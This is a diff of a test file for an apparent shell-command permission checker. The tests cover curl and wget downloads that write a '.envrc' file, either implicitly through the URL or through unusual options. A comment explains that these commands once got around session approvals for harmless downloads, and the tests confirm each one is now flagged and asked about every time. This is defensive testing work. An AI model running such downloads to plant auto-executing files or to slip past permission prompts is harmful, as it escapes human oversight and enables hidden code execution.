@@ -140,3 +140,34 @@ describe('attack: an archive extracted to the places it names', () => {
     for (const line of ['tar cPf a.tar src', 'tar xf a.tar', 'unzip -o a.zip', 'cpio -o < list.txt']) expect(reasons(line), line).not.toContain(ANYWHERE);
   });
 });
+
+// Attack: download a file that makes later programs run code without naming it. `curl -O https://x/.envrc` and
+// `wget https://x/.envrc` write `.envrc` (the URL's last segment); `curl --libcurl|--etag-save|--hsts|--alt-svc F`
+// and `wget --save-cookies F` write F. None was read as a write, so a yes for `curl -O https://x/notes.txt` covered
+// them, and with the sandbox off nothing held the file back. Now they are writes like `-o F` (ADR 0099).
+describe('attack: a download that names its file only through the URL or an unusual option', () => {
+  const RUNS_LATER = 'changes a file that makes later programs run code (.envrc)';
+  for (const line of [
+    'curl -O https://files.example/.envrc',
+    'curl -sO https://files.example/a/.envrc?v=1',
+    'curl --remote-name https://files.example/.envrc',
+    'wget https://files.example/.envrc',
+    'wget files.example/.envrc',
+    'curl --etag-save .envrc https://files.example/x',
+    'curl --libcurl .envrc https://files.example/x',
+    'curl --hsts .envrc https://files.example/x',
+    'curl --alt-svc .envrc https://files.example/x',
+    'wget --save-cookies .envrc https://files.example/x',
+  ]) {
+    it(`\`${line}\` writes .envrc: dangerous, asked every time`, async () => {
+      expect(reasons(line)).toContain(RUNS_LATER);
+      expect(await askedAfterSessionAnswer('curl -O https://files.example/notes.txt', line, PROJECT)).toEqual([line]);
+    });
+  }
+
+  it('a download named by -O elsewhere, or printed, writes no file of the URL\'s name', () => {
+    for (const line of ['wget -O notes.txt https://files.example/.envrc', 'curl https://files.example/.envrc', 'curl -O https://files.example/notes.txt']) {
+      expect(reasons(line), line).not.toContain(RUNS_LATER);
+    }
+  });
+});
